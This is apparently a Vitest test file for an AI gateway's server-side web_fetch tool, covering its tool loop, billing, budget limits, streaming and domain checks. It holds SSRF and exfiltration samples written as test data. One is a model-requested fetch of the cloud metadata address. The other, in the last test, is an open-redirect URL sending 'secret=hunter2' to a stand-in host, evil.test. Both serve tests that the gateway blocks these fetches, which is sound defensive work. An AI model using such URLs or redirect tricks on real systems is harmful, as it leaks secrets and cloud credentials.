import OpenAI from 'openai';
import { describe, expect, it } from 'vitest';
import { registry } from '../../plugins';
import { webFetchDefinition } from '../../plugins/web-fetch/stage';
import { estimate } from '../../src/spend/estimate';
import { post, sseEvents, testConfigYaml } from '../fixtures/gateway';
import { pageServer } from '../fixtures/pages';
import { perTestGateways } from '../fixtures/per-test';
import { journalSpy } from '../fixtures/journal-spy';

const t = perTestGateways();
/** Requests that reached `/collect` (host and path): a domain the request's lists refuse must never see one. */
const collected: string[] = [];
const pages = pageServer((req, res) => {
  if (req.url === '/article') res.writeHead(200, { 'content-type': 'text/html' }).end('<html><body><p>Otters hold hands.</p></body></html>');
  else if (req.url === '/second') res.writeHead(200, { 'content-type': 'text/plain' }).end('Second page.');
  else if (req.url === '/long') res.writeHead(200, { 'content-type': 'text/plain' }).end('word '.repeat(3000));
  else if (req.url?.startsWith('/open-redirect?to=')) res.writeHead(302, { location: decodeURIComponent(req.url.slice('/open-redirect?to='.length)) }).end();
  else if (req.url?.startsWith('/collect')) {
    collected.push(`${req.headers.host}${req.url}`);
    res.writeHead(200, { 'content-type': 'text/plain' }).end('Collected.');
  }
  else res.writeHead(404).end();
});

function testRegistry() {
  return new Map(registry).set('web-fetch', webFetchDefinition({ testOnlyLoopbackPorts: [pages.port] }));
}

const yaml = (pluginConfig = '{}', pipeline = '[auth, validate, web-fetch, upstream]') =>
  `${testConfigYaml(t.upstream.url, pipeline)}plugins:\n  web-fetch: ${pluginConfig}\n`;
const META = { 'x-gateway-metadata': 'enabled' };

/** A chat answer (as the fake provider sends it) that calls functions. */
function chatCalls(calls: { name: string; args: unknown }[], usage = { prompt_tokens: 7, completion_tokens: 3, total_tokens: 10 }) {
  return {
    kind: 'status' as const,
    status: 200,
    body: {
      id: 'chatcmpl-tool', object: 'chat.completion', created: 1700000000, model: 'gpt-upstream',
      choices: [{ index: 0, finish_reason: 'tool_calls', message: { role: 'assistant', content: null, tool_calls: calls.map((c, i) => ({ id: `call_${i}`, type: 'function', function: { name: c.name, arguments: JSON.stringify(c.args) } })) } }],
      usage,
    },
  };
}

/** A messages answer (as the fake provider sends it) that uses tools. */
function messagesCalls(calls: { name: string; input: unknown }[]) {
  return {
    kind: 'status' as const,
    status: 200,
    body: {
      id: 'msg_tool', type: 'message', role: 'assistant', model: 'claude-upstream', stop_reason: 'tool_use', stop_sequence: null,
      content: [{ type: 'text', text: 'Let me read it.' }, ...calls.map((c, i) => ({ type: 'tool_use', id: `toolu_${i}`, name: c.name, input: c.input }))],
      usage: { input_tokens: 8, output_tokens: 4 },
    },
  };
}

const SERVER_TOOL = { type: 'gateway:web_fetch' };

describe('gateway:web_fetch server tool (URLs the model asks for)', () => {
  it('chat: the model calls web_fetch, the gateway fetches and asks again; the client gets the final answer with summed usage', async () => {
    const g = await t.start({ yaml: yaml(), registry: testRegistry() });
    const url = `${pages.url}/article`;
    t.upstream.scripts.set('gpt-upstream', [chatCalls([{ name: 'web_fetch', args: { url } }])]);
    const r = await post(`${g.url}/chat/completions`, g.key, { model: 'fake/gpt', tools: [SERVER_TOOL], messages: [{ role: 'user', content: 'What do otters do?' }] }, META);
    expect(r.status).toBe(200);
    expect(r.json.choices[0].message.content).toBe('Hello from the fake upstream.');
    // Two model turns: 7+10 prompt, 3+5 completion tokens.
    expect(r.json.usage).toMatchObject({ prompt_tokens: 17, completion_tokens: 8, total_tokens: 25, server_tool_use_details: { tool_calls_requested: 1, tool_calls_executed: 1 } });

    const [first, second] = t.upstream.received.map((x) => x.body);
    expect(t.upstream.received).toHaveLength(2);
    expect(first.tools).toEqual([{ type: 'function', function: { name: 'web_fetch', description: expect.any(String), parameters: expect.objectContaining({ required: ['url'] }) } }]);
    expect(JSON.stringify(first)).not.toContain('gateway:web_fetch');
    expect(second.messages.slice(1)).toEqual([
      { role: 'assistant', content: null, tool_calls: [{ id: 'call_0', type: 'function', function: { name: 'web_fetch', arguments: JSON.stringify({ url }) } }] },
      { role: 'tool', tool_call_id: 'call_0', content: `Content of ${url}:\nOtters hold hands.` },
    ]);
    const loop = r.json.gateway_metadata.pipeline.find((p: any) => p.data.tool_loop);
    expect(loop.data.tool_loop).toEqual({ turns: 2, tool_calls_requested: 1, tool_calls_executed: 1, stopped_by: 'answer' });
    expect(r.json.gateway_metadata.pipeline[0]).toMatchObject({ type: 'web-fetch', data: { url, outcome: 'fetched', via: 'tool_call' } });
    // One ledger row for the request, billed for both turns.
    expect(await g.ledgerRow(r.json.id)).toMatchObject({ promptTokens: 17, completionTokens: 8, status: 'completed' });
  });

  it('every turn is made under the request\'s generation id: its one journal entry has the id of the answer and of the row, so a sweep\'s interrupted row is replaced by it', async () => {
    const g = await t.start({ yaml: yaml(), registry: testRegistry() });
    // The ledger rows stay in the writer, as in a process killed before its batch was written.
    const { journaled, writerBack } = journalSpy(g.store);
    t.upstream.scripts.set('gpt-upstream', [chatCalls([{ name: 'web_fetch', args: { url: `${pages.url}/second` } }])]);
    const r = await post(`${g.url}/chat/completions`, g.key, { model: 'fake/gpt', tools: [SERVER_TOOL], messages: [{ role: 'user', content: 'Read it' }] });
    expect(r.status).toBe(200);
    expect(t.upstream.received).toHaveLength(2);
    const id = r.json.id as string;
    expect(journaled).toEqual([id]); // it had been the first turn's id, the answer the second's
    expect(await g.store.finalizePendingLedger({ beforeMs: Date.now() + 1000, exceptOwner: 'another-process' })).toBe(1);
    expect(await g.store.getLedger(id)).toMatchObject({ status: 'interrupted', costUsd: 0 });
    writerBack();
    expect(await g.ledgerRow(id)).toMatchObject({ promptTokens: 17, completionTokens: 8, status: 'completed' });
  });

  it('messages: tool_result blocks go back to the model; usage.server_tool_use counts the fetches', async () => {
    const g = await t.start({ yaml: yaml(), registry: testRegistry() });
    const url = `${pages.url}/second`;
    t.upstream.scripts.set('claude-upstream', [messagesCalls([{ name: 'web_fetch', input: { url } }])]);
    const r = await post(`${g.url}/messages`, g.key, { model: 'fake/claude', max_tokens: 50, tools: [SERVER_TOOL], messages: [{ role: 'user', content: 'Read it.' }] });
    expect(r.status).toBe(200);
    expect(r.json.content).toEqual([{ type: 'text', text: 'Hello from the fake upstream.' }]);
    expect(r.json.usage).toMatchObject({ input_tokens: 14, output_tokens: 9, server_tool_use: { web_fetch_requests: 1 } });
    const [first, second] = t.upstream.received.map((x) => x.body);
    expect(first.tools).toEqual([{ name: 'web_fetch', description: expect.any(String), input_schema: expect.objectContaining({ required: ['url'] }) }]);
    expect(second.messages.slice(1)).toEqual([
      { role: 'assistant', content: [{ type: 'text', text: 'Let me read it.' }, { type: 'tool_use', id: 'toolu_0', name: 'web_fetch', input: { url } }] },
      { role: 'user', content: [{ type: 'tool_result', tool_use_id: 'toolu_0', content: `Content of ${url}:\nSecond page.` }] },
    ]);
  });

  it('a URL the model asks for is still SSRF-checked: the metadata address is refused and the model is told so', async () => {
    const g = await t.start({ yaml: yaml(), registry: testRegistry() });
    t.upstream.scripts.set('claude-upstream', [messagesCalls([{ name: 'web_fetch', input: { url: 'http://169.254.169.254/latest/meta-data/' } }])]);
    const r = await post(`${g.url}/messages`, g.key, { model: 'fake/claude', max_tokens: 50, tools: [SERVER_TOOL], messages: [{ role: 'user', content: 'Read it.' }] }, META);
    expect(r.status).toBe(200);
    const result = t.upstream.received[1].body.messages.at(-1).content[0];
    expect(result).toMatchObject({ type: 'tool_result', tool_use_id: 'toolu_0', is_error: true });
    expect(result.content).toMatch(/^Could not fetch http:\/\/169\.254\.169\.254\/latest\/meta-data\/: /);
    expect(r.json.gateway_metadata.pipeline[0]).toMatchObject({ data: { outcome: 'refused', reason: 'blocked_address', via: 'tool_call' } });
  });

  it('max_uses caps the fetches; the turn after the cap runs with tool calls disabled', async () => {
    const g = await t.start({ yaml: yaml(), registry: testRegistry() });
    const before = pages.hits();
    t.upstream.scripts.set('gpt-upstream', [chatCalls([{ name: 'web_fetch', args: { url: `${pages.url}/article` } }, { name: 'web_fetch', args: { url: `${pages.url}/second` } }])]);
    const r = await post(`${g.url}/chat/completions`, g.key, { model: 'fake/gpt', tools: [{ ...SERVER_TOOL, max_uses: 1 }], messages: [{ role: 'user', content: 'Both?' }] }, META);
    expect(r.status).toBe(200);
    expect(pages.hits() - before).toBe(1);
    const second = t.upstream.received[1].body;
    expect(second.tool_choice).toBe('none');
    expect(second.messages.at(-1)).toEqual({ role: 'tool', tool_call_id: 'call_1', content: `Not fetched ${pages.url}/second: the web_fetch limit for this request is reached` });
    expect(r.json.usage.server_tool_use_details).toEqual({ tool_calls_requested: 2, tool_calls_executed: 1 });
    expect(r.json.gateway_metadata.pipeline.at(-1).data.tool_loop.stopped_by).toBe('tool_call_limit');
  });

  it('stop_server_tools_when step_count_is: pending calls run, then one final turn without tools', async () => {
    const g = await t.start({ yaml: yaml(), registry: testRegistry() });
    const url = `${pages.url}/article`;
    // The model would keep calling: both scripted turns ask for a fetch.
    t.upstream.scripts.set('claude-upstream', [messagesCalls([{ name: 'web_fetch', input: { url } }]), messagesCalls([{ name: 'web_fetch', input: { url } }])]);
    const r = await post(`${g.url}/messages`, g.key, {
      model: 'fake/claude', max_tokens: 50, tools: [SERVER_TOOL], stop_server_tools_when: [{ type: 'step_count_is', step_count: 1 }],
      messages: [{ role: 'user', content: 'Read it.' }],
    });
    expect(r.status).toBe(200);
    expect(t.upstream.received).toHaveLength(2);
    expect(t.upstream.received[1].body.tool_choice).toEqual({ type: 'none' });
    expect(t.upstream.received[1].body.messages.at(-1).content[0]).toMatchObject({ type: 'tool_result', content: `Content of ${url}:\nOtters hold hands.` });
    // The final turn's answer is what the client gets, even if it (wrongly) still calls the tool.
    expect(r.json.content.at(-1)).toMatchObject({ type: 'tool_use', name: 'web_fetch' });
  });

  it('max_steps bounds the model turns in all, the last one without tools, even when the request sets its own stop rules', async () => {
    const g = await t.start({ yaml: yaml('{ max_steps: 3 }'), registry: testRegistry() });
    const url = `${pages.url}/second`;
    t.upstream.scripts.set('claude-upstream', [1, 2, 3].map(() => messagesCalls([{ name: 'web_fetch', input: { url } }])));
    const r = await post(`${g.url}/messages`, g.key, {
      model: 'fake/claude', max_tokens: 50, tools: [SERVER_TOOL], stop_server_tools_when: [{ type: 'max_cost', max_cost_in_dollars: 100 }],
      messages: [{ role: 'user', content: 'Read it again and again.' }],
    }, META);
    expect(r.status).toBe(200);
    expect(t.upstream.received).toHaveLength(3);
    expect(t.upstream.received.map((x) => x.body.tool_choice)).toEqual([undefined, undefined, { type: 'none' }]);
    expect(r.json.gateway_metadata.pipeline.at(-1).data.tool_loop).toMatchObject({ turns: 3, tool_calls_executed: 2, stopped_by: 'max_steps' });
  });

  it('stop_server_tools_when max_cost: once the turns so far cost that much, the next turn is the last, without tools', async () => {
    const g = await t.start({ yaml: yaml(), registry: testRegistry() });
    const url = `${pages.url}/second`;
    t.upstream.scripts.set('claude-upstream', [messagesCalls([{ name: 'web_fetch', input: { url } }]), messagesCalls([{ name: 'web_fetch', input: { url } }])]);
    const r = await post(`${g.url}/messages`, g.key, {
      model: 'fake/claude', max_tokens: 50, tools: [SERVER_TOOL], stop_server_tools_when: [{ type: 'max_cost', max_cost_in_dollars: 1e-9 }],
      messages: [{ role: 'user', content: 'Read it.' }],
    }, META);
    expect(r.status).toBe(200);
    expect(t.upstream.received.map((x) => x.body.tool_choice)).toEqual([undefined, { type: 'none' }]);
    expect(r.json.gateway_metadata.pipeline.at(-1).data.tool_loop).toMatchObject({ turns: 2, stopped_by: 'max_cost' });
    expect(r.json.usage.cost).toBeGreaterThan(1e-9);
  });

  it('with budget-check, each later turn holds the turns so far plus its own estimate: one the in-flight budget cannot hold fails the request with 402, the turns done billed', async () => {
    const g = await t.start({ yaml: yaml('{}', '[auth, validate, budget-check, web-fetch, upstream]'), registry: testRegistry() });
    const body = { model: 'fake/claude', max_tokens: 10, tools: [SERVER_TOOL], messages: [{ role: 'user', content: 'What does the long page say?' }] };
    const first = estimate(body, g.gateway.runtime().services.models, 4096).usd;
    // The in-flight budget (half the balance) holds the first turn five times over; the second turn's
    // conversation holds the ~3000-token page, an estimate far larger.
    await g.store.addCredits(g.keyRecord.accountId, 10 * first);
    g.gateway.spend.forgetAccount(g.keyRecord.accountId);
    t.upstream.scripts.set('claude-upstream', [messagesCalls([{ name: 'web_fetch', input: { url: `${pages.url}/long` } }])]);
    const r = await post(`${g.url}/messages`, g.key, body);
    expect(r.status).toBe(402);
    expect(r.json.error).toMatchObject({ type: 'billing_error', error_type: 'payment_required' });
    expect(r.json.metadata).toMatchObject({ limit_source: 'gateway_credits', reason: 'weight_exceeds_budget' });
    expect(t.upstream.received).toHaveLength(1);
    // The first turn was served: one failed row bills it.
    expect(await g.ledgerRow(r.json.request_id)).toMatchObject({ promptTokens: 8, completionTokens: 4, status: 'failed' });
    expect(g.gateway.spend.inFlightHolds()).toBe(0);

    // Without the page, the second turn fits: the loop runs to its answer.
    t.upstream.received.length = 0;
    t.upstream.scripts.set('claude-upstream', [messagesCalls([{ name: 'web_fetch', input: { url: `${pages.url}/second` } }])]);
    const ok = await post(`${g.url}/messages`, g.key, body);
    expect(ok.status).toBe(200);
    expect(t.upstream.received).toHaveLength(2);
  });

  it('the turns of a request a later turn\'s check refused count toward the key limit (they reached the ledger, never the counters)', async () => {
    const g = await t.start({ yaml: yaml('{}', '[auth, validate, budget-check, web-fetch, upstream]'), registry: testRegistry() });
    const body = { model: 'fake/claude', max_tokens: 10, tools: [SERVER_TOOL], messages: [{ role: 'user', content: 'What does the long page say?' }] };
    await g.store.addCredits(g.keyRecord.accountId, 10 * estimate(body, g.gateway.runtime().services.models, 4096).usd);
    g.gateway.spend.forgetAccount(g.keyRecord.accountId);
    // A first turn costs 8 prompt and 4 completion tokens of fake/claude: (8 × 3 + 4 × 15) / 1e6 = $0.000084.
    const turn = 84e-6;
    const { secret } = await g.createKey({ name: 'limited', limitUsd: 1.5 * turn });
    const script = () => t.upstream.scripts.set('claude-upstream', [messagesCalls([{ name: 'web_fetch', input: { url: `${pages.url}/long` } }])]);
    // Each request's second turn does not fit the in-flight budget: 402, its first turn billed.
    for (let i = 0; i < 2; i++) {
      script();
      const r = await post(`${g.url}/messages`, secret, body);
      expect(r.status).toBe(402);
      expect(r.json.metadata).toMatchObject({ reason: 'weight_exceeds_budget' });
      expect(await g.ledgerRow(r.json.request_id)).toMatchObject({ status: 'failed', costUsd: expect.closeTo(turn, 12) });
    }
    // Two turns spent, $0.000168 of a $0.000126 lifetime limit: the key is refused before any provider is called.
    t.upstream.received.length = 0;
    script();
    const refused = await post(`${g.url}/messages`, secret, body);
    // A limit without a reset window is the key out of credit: 402 gateway_key_limit (not a third weight_exceeds_budget).
    expect(refused.status).toBe(402);
    expect(refused.json.metadata).toMatchObject({ limit_source: 'gateway_key_limit', reason: 'key_limit_exhausted' });
    expect(t.upstream.received).toHaveLength(0);
    expect(g.gateway.spend.inFlightHolds()).toBe(0);
  });

  it('the loop runs where upstream stands: web-fetch before budget-check (the suggested order), a refused request sends nothing upstream', async () => {
    const g = await t.start({ yaml: yaml('{}', '[auth, validate, web-fetch, budget-check, upstream]'), registry: testRegistry() });
    // The account has no credits: budget-check refuses before any model turn.
    const r = await post(`${g.url}/messages`, g.key, { model: 'fake/claude', max_tokens: 10, tools: [SERVER_TOOL], messages: [{ role: 'user', content: 'Read it' }] });
    expect(r.status).toBe(402);
    expect(t.upstream.received).toHaveLength(0);
    expect(g.gateway.spend.inFlightHolds()).toBe(0);
  });

  it('a later turn that fails before any answer still bills the turns done, in a failed row', async () => {
    const g = await t.start({ yaml: yaml(), registry: testRegistry() });
    const down = { kind: 'status' as const, status: 500, body: { type: 'error', error: { type: 'api_error', message: 'boom' } } };
    t.upstream.scripts.set('claude-upstream', [messagesCalls([{ name: 'web_fetch', input: { url: `${pages.url}/second` } }]), down, down]);
    const r = await post(`${g.url}/messages`, g.key, { model: 'fake/claude', max_tokens: 10, tools: [SERVER_TOOL], messages: [{ role: 'user', content: 'Read it' }] });
    expect(r.status).toBe(502);
    expect(t.upstream.received.length).toBeGreaterThanOrEqual(2);
    let row = null;
    for (let i = 0; i < 100 && !row; i++) {
      row = await g.ledgerRow(r.json.request_id);
      if (!row) await new Promise((res) => setTimeout(res, 10));
    }
    expect(row).toMatchObject({ promptTokens: 8, completionTokens: 4, status: 'failed', provider: 'fake-anthropic' });
  });

  it('a first turn whose provider answered 2xx and then failed gets a failed row naming that endpoint, nothing billed, as a plain messages request does', async () => {
    const g = await t.start({ yaml: yaml(), registry: testRegistry() });
    t.upstream.always.set('claude-upstream', { kind: 'status', status: 200, body: { type: 'error', error: { type: 'api_error', message: 'boom' } } });
    for (const tools of [[SERVER_TOOL], undefined]) {
      const r = await post(`${g.url}/messages`, g.key, { model: 'fake/claude', max_tokens: 10, ...(tools ? { tools } : {}), messages: [{ role: 'user', content: 'Read it' }] });
      expect(r.status).toBe(502);
      expect(await g.ledgerRow(r.json.request_id)).toMatchObject({ status: 'failed', provider: 'fake-anthropic', model: 'fake/claude', costUsd: 0, promptTokens: 0 });
    }
    expect(await g.store.listPendingLedger()).toEqual([]);
  });

  it('fusion asked for together with gateway:web_fetch is a 400; fusion on by default steps aside for the loop', async () => {
    const fusion = 'fusion: { models: [fake/gpt, sim/chat], judge: fake/gpt }';
    const both = `${testConfigYaml(t.upstream.url, '[auth, validate, web-fetch, fusion, upstream]')}plugins:\n  web-fetch: {}\n  ${fusion}\n`;
    const g = await t.start({ yaml: both, registry: testRegistry() });
    const body = { model: 'fake/gpt', tools: [SERVER_TOOL], messages: [{ role: 'user', content: 'Read it' }] };
    const r = await post(`${g.url}/chat/completions`, g.key, { ...body, plugins: [{ id: 'fusion' }] });
    expect(r.status).toBe(400);
    expect(r.json.error.metadata).toMatchObject({ error_type: 'invalid_request', field: 'plugins[0]' });
    expect(t.upstream.received).toHaveLength(0);
    const byDefault = await t.start({ yaml: both.replace('judge: fake/gpt }', 'judge: fake/gpt, enabled_by_default: true }'), registry: testRegistry() });
    t.upstream.scripts.set('gpt-upstream', [chatCalls([{ name: 'web_fetch', args: { url: `${pages.url}/second` } }])]);
    const ok = await post(`${byDefault.url}/chat/completions`, byDefault.key, body);
    expect(ok.status).toBe(200);
    expect(t.upstream.received).toHaveLength(2); // the loop's two turns, no fusion candidates
  });

  it('an answer that also calls a client tool goes to the client without the web_fetch call, and nothing is fetched', async () => {
    const g = await t.start({ yaml: yaml(), registry: testRegistry() });
    const before = pages.hits();
    t.upstream.scripts.set('gpt-upstream', [chatCalls([{ name: 'web_fetch', args: { url: `${pages.url}/article` } }, { name: 'get_weather', args: { city: 'Paris' } }])]);
    const weather = { type: 'function', function: { name: 'get_weather', parameters: { type: 'object', properties: { city: { type: 'string' } } } } };
    const r = await post(`${g.url}/chat/completions`, g.key, { model: 'fake/gpt', tools: [SERVER_TOOL, weather], messages: [{ role: 'user', content: 'Weather?' }] });
    expect(r.status).toBe(200);
    expect(r.json.choices[0].message.tool_calls.map((c: any) => c.function.name)).toEqual(['get_weather']);
    expect(t.upstream.received).toHaveLength(1);
    expect(pages.hits()).toBe(before);
  });

  it('streaming clients get the final answer as a stream the official SDK reads', async () => {
    const g = await t.start({ yaml: yaml(), registry: testRegistry() });
    t.upstream.scripts.set('gpt-upstream', [chatCalls([{ name: 'web_fetch', args: { url: `${pages.url}/article` } }])]);
    const client = new OpenAI({ baseURL: g.url, apiKey: g.key });
    const stream = await client.chat.completions.create({
      model: 'fake/gpt', stream: true, stream_options: { include_usage: true },
      tools: [SERVER_TOOL as never], messages: [{ role: 'user', content: 'Otters?' }],
    });
    let text = '';
    let usage: any;
    for await (const chunk of stream) {
      text += chunk.choices[0]?.delta?.content ?? '';
      if (chunk.usage) usage = chunk.usage;
    }
    expect(text).toBe('Hello from the fake upstream.');
    expect(usage).toMatchObject({ prompt_tokens: 17, completion_tokens: 8, server_tool_use_details: { tool_calls_executed: 1 } });
    // Every turn went upstream without streaming.
    expect(t.upstream.received.map((x) => x.body.stream)).toEqual([false, false]);
  });

  it('messages streaming: the event sequence of a message, ending with [DONE]', async () => {
    const g = await t.start({ yaml: yaml(), registry: testRegistry() });
    t.upstream.scripts.set('claude-upstream', [messagesCalls([{ name: 'web_fetch', input: { url: `${pages.url}/second` } }])]);
    const r = await post(`${g.url}/messages`, g.key, { model: 'fake/claude', max_tokens: 50, stream: true, tools: [SERVER_TOOL], messages: [{ role: 'user', content: 'Read it.' }] });
    expect(r.status).toBe(200);
    const events = sseEvents(r.text);
    expect(events.map((e) => e.event ?? e.data)).toEqual(['message_start', 'content_block_start', 'content_block_delta', 'content_block_stop', 'message_delta', 'message_stop', '[DONE]']);
    expect(JSON.parse(events[2].data).delta).toEqual({ type: 'text_delta', text: 'Hello from the fake upstream.' });
    expect(JSON.parse(events[4].data).usage).toMatchObject({ input_tokens: 14, output_tokens: 9, server_tool_use: { web_fetch_requests: 1 } });
  });

  it('a server tool the operator does not run, or one the gateway does not have, is a 400 naming it', async () => {
    const g = await t.start({ yaml: yaml('{}', '[auth, validate, upstream]'), registry: testRegistry() });
    const off = await post(`${g.url}/chat/completions`, g.key, { model: 'fake/gpt', tools: [SERVER_TOOL], messages: [{ role: 'user', content: 'x' }] });
    expect(off.status).toBe(400);
    expect(off.json.error).toMatchObject({ code: 400, metadata: { error_type: 'invalid_request', field: 'tools[0].type' } });
    expect(off.json.error.message).toContain('not enabled');
    const unknown = await post(`${g.url}/messages`, g.key, { model: 'fake/claude', max_tokens: 5, tools: [{ type: 'gateway:teleport' }], messages: [{ role: 'user', content: 'x' }] });
    expect(unknown.status).toBe(400);
    expect(unknown.json).toMatchObject({ type: 'error', error: { type: 'invalid_request_error' } });
    expect(t.upstream.received).toHaveLength(0);
  });

  it('bad tool fields and stop conditions are 400s before any upstream call', async () => {
    const g = await t.start({ yaml: yaml(), registry: testRegistry() });
    const ask = (extra: Record<string, unknown>) => post(`${g.url}/chat/completions`, g.key, { model: 'fake/gpt', messages: [{ role: 'user', content: 'x' }], ...extra });
    const cases = [
      { tools: [{ ...SERVER_TOOL, max_uses: 0 }], field: 'tools[0].max_uses' },
      { tools: [{ ...SERVER_TOOL, allowed_domains: 'example.com' }], field: 'tools[0].allowed_domains' },
      { tools: [SERVER_TOOL], stop_server_tools_when: [{ type: 'when_pigs_fly' }], field: 'stop_server_tools_when[0]' },
      { tools: [SERVER_TOOL, { type: 'function', function: { name: 'web_fetch' } }], field: 'tools' },
      { tools: [SERVER_TOOL, { type: 'function', function: { name: 'f' } }, SERVER_TOOL], field: 'tools[2]' },
    ];
    for (const { field, ...extra } of cases) {
      const r = await ask(extra);
      expect(r.status, field).toBe(400);
      expect(r.json.error.metadata.field).toBe(field);
    }
    expect(t.upstream.received).toHaveLength(0);
  });

  it('allowed_domains: a URL outside them is not fetched', async () => {
    const g = await t.start({ yaml: yaml(), registry: testRegistry() });
    const before = pages.hits();
    t.upstream.scripts.set('gpt-upstream', [chatCalls([{ name: 'web_fetch', args: { url: `${pages.url}/article` } }])]);
    const r = await post(`${g.url}/chat/completions`, g.key, { model: 'fake/gpt', tools: [{ ...SERVER_TOOL, allowed_domains: ['example.com'] }], messages: [{ role: 'user', content: 'x' }] });
    expect(r.status).toBe(200);
    expect(pages.hits()).toBe(before);
    expect(t.upstream.received[1].body.messages.at(-1).content).toBe(`Not fetched ${pages.url}/article: the domain is not allowed for this request`);
  });

  it('allowed_domains and blocked_domains hold for every redirect hop: a hop to a refused domain is never requested', async () => {
    // Two names for the one page server: allowed.test is an allowed domain with an open redirect,
    // evil.test is not. The model puts data in the URL of the second: the hop must not be made at all.
    const resolve = async () => [{ address: '127.0.0.1', family: 4 }];
    const registry_ = new Map(registry).set('web-fetch', webFetchDefinition({ testOnlyLoopbackPorts: [pages.port], resolve }));
    const g = await t.start({ yaml: yaml(), registry: registry_ });
    const out = `http://evil.test:${pages.port}/collect?secret=hunter2`;
    const url = `http://allowed.test:${pages.port}/open-redirect?to=${encodeURIComponent(out)}`;
    for (const tool of [{ ...SERVER_TOOL, allowed_domains: ['allowed.test'] }, { ...SERVER_TOOL, blocked_domains: ['evil.test'] }]) {
      collected.length = 0;
      t.upstream.received.length = 0;
      t.upstream.scripts.set('gpt-upstream', [chatCalls([{ name: 'web_fetch', args: { url } }])]);
      const r = await post(`${g.url}/chat/completions`, g.key, { model: 'fake/gpt', tools: [tool], messages: [{ role: 'user', content: 'x' }] }, META);
      expect(r.status).toBe(200);
      expect(collected).toEqual([]);
      expect(t.upstream.received[1].body.messages.at(-1).content).toBe(`Not fetched ${url}: it redirected to a domain that is not allowed for this request`);
      expect(r.json.gateway_metadata.pipeline[0]).toMatchObject({ type: 'web-fetch', data: { url, outcome: 'refused', via: 'tool_call' } });
    }
  });
});
